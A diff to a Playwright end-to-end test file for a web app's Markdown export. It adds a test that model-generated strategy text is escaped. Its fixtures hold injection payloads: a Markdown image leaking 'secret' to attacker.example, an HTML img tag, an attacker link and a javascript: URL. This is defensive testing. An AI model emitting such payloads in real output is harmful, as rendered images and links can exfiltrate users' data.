@@ -17,6 +17,7 @@ import pytest
 from PIL import Image
 from playwright.sync_api import Page, expect
 
+from cli.export import md_text
 from tests.e2e.conftest import WebApp
 from tests.e2e.helpers import (
     FORMAT_LOCALES,
@@ -196,21 +197,21 @@ def test_markdown_export(
     assert download.suggested_filename.endswith(".md")
     text = Path(download.path()).read_text(encoding="utf-8")
 
-    assert text.startswith(f"# {strategy['strategy_name']}\n")
+    assert text.startswith(f"# {md_text(strategy['strategy_name'])}\n")
     assert f"**Budget:** {eur(page, 'en', strategy['required_budget'])}" in text
     assert "## Budget by channel" in text
     budget = strategy["required_budget"]
     for channel in strategy["channels"]:
         share = min(1.0, max(0.0, channel["budget_share"]))
         amount = eur(page, "en", share * budget)
-        assert f"| {channel['name']} | {percent(page, 'en', share)} | {amount} |" in text
+        assert f"| {md_text(channel['name'])} | {percent(page, 'en', share)} | {amount} |" in text
     steps = sorted(strategy["steps"], key=lambda s: s["step_number"])
-    positions = [text.index(f"{s['step_number']}. {s['description']}") for s in steps]
+    positions = [text.index(f"{s['step_number']}. {md_text(s['description'])}") for s in steps]
     assert positions == sorted(positions)  # in step_number order
     for kpi in strategy["kpis"]:
-        assert f"- {kpi}" in text
+        assert f"- {md_text(kpi)}" in text
     for key_message in strategy["key_messages"]:
-        assert f"- {key_message}" in text
+        assert f"- {md_text(key_message)}" in text
     assert task["result"]["model"] in text
 
 
@@ -361,3 +362,37 @@ def test_uneven_strategies_are_drawn_honestly(
         ["1", "Loyalty cards issued", "800 in 12 weeks"]
     )
     expect(cells.nth(1).locator("td")).to_have_text(["2", "A rating of 4.6 or more", "—"])
+
+
+def test_the_markdown_export_keeps_model_text_literal_and_links_only_sources(
+    web: WebApp, write_task: Callable[[str, dict[str, Any]], None]
+) -> None:
+    """Issue 18: an injected image, link or HTML in the strategy is text in the file."""
+    page = web.open()
+    uid = page.evaluate("document.body.dataset.uid")
+    task_id = uuid.uuid4().hex
+    hostile = {
+        **STRATEGY,
+        "strategy_name": "Brew ![chart](https://attacker.example/leak?d=secret)",
+        "summary": '<img src="https://attacker.example/x"> see www.attacker.example',
+        "kpis": ["[click](https://attacker.example/) **now** me@attacker.example"],
+    }
+    result = a_result(hostile)
+    result["sources"] = [
+        {"url": "https://example.com/menu", "title": "Menu", "status": "retrieved"},
+        {"url": "javascript:alert(1)", "title": "Not a link", "status": "retrieved"},
+    ]
+    write_task(task_id, a_task(uid, "COMPLETED", result=result))
+    show_task(web, task_id)
+    expect(page.locator("#export-bar")).to_be_visible()
+    with page.expect_download() as caught:
+        page.click("#export-markdown")
+    text = Path(caught.value.path()).read_text(encoding="utf-8")
+
+    assert text.startswith(f"# {md_text(hostile['strategy_name'])}\n")
+    for construct in ("![", "](", "<img", "**now", "://attacker", "www.att", "me@"):
+        unescaped = re.search(r"(?<!\\)" + re.escape(construct), text.split("## Sources")[0])
+        assert unescaped is None, construct
+    links = [line for line in text.splitlines() if "](" in line]
+    assert links == ["- [Menu](<https://example.com/menu>)"]
+    assert "- Not a link" in text
